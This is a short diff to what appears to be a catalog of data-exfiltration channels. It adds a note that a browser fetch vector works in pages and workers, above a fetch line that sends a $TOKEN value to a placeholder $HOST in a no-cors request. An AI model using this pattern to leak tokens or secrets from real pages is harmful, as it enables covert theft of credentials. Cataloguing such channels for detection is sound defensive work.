@@ -1,2 +1,3 @@
 // vector: fetch over TLS, in the server name
+// where: page, worker
 fetch("https://$HOST/$TOKEN", { mode: "no-cors" });
